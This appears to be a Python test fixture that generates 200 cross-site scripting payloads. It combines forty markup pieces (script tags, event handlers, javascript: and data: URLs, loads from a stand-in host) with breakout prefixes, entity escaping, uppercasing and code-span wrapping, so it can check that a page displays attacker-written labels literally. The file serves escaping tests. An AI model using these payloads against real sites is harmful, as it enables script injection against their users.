"""Two hundred texts that a page must show as they are typed: what an attacker writes into labels and notes.

Forty pieces of markup after the cheat sheets on XSS filter evasion of OWASP and PortSwigger, each bare, after
the ends of what it may stand in, as entities, in capitals, and inside a listing.
"""

from __future__ import annotations

from html import escape

HIT = "window.hit=1"
ELSEWHERE = "//x.example/a"
MARKUP = (
    f"<script>{HIT}</script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<script type=module>import '{ELSEWHERE}.js'</script>",
    f"<img src=x onerror={HIT}>",
    f"<img src={ELSEWHERE}.png>",
    f"<img srcset='{ELSEWHERE}.png 1x'>",
    f"<svg onload={HIT}></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><use href='{ELSEWHERE}.svg#a'/></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<math href='javascript:{HIT}'>x</math>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<object data='{ELSEWHERE}.swf'></object>",
    f"<embed src='{ELSEWHERE}.swf'>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src='{ELSEWHERE}.mp3' autoplay></audio>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<body onload={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<a href='javascript:{HIT}'>x</a>",
    f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    f"<form action='{ELSEWHERE}'><button>x</button></form>",
    f"<base href='{ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link rel=stylesheet href='{ELSEWHERE}.css'>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    "<style>*{display:none}</style>",
    f"<p style='background:url({ELSEWHERE}.png)'>x</p>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><img src=x onerror={HIT}></template>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<textarea><p id='</textarea><img src=x onerror={HIT}>'>",
    f"{{{{ {HIT} }}}} {{% raw %}} ${{{HIT}}}",
    f"[x](javascript:{HIT}) ![y]({ELSEWHERE}.png) <javascript:{HIT}>",
    f"$\\text{{<img src=x onerror={HIT}>}}$ $$\\href{{javascript:{HIT}}}{{x}}$$",
)
ENDS = "\"'></p></td></title></style></script></svg>"
PAYLOADS = tuple(
    form(markup)
    for form in (
        str,
        lambda markup: ENDS + markup,
        lambda markup: escape(markup) + "&lt;b&gt;",
        str.upper,
        lambda markup: f"`{markup}` &#60;script&#62;",
    )
    for markup in MARKUP
)
assert len(set(PAYLOADS)) == 200
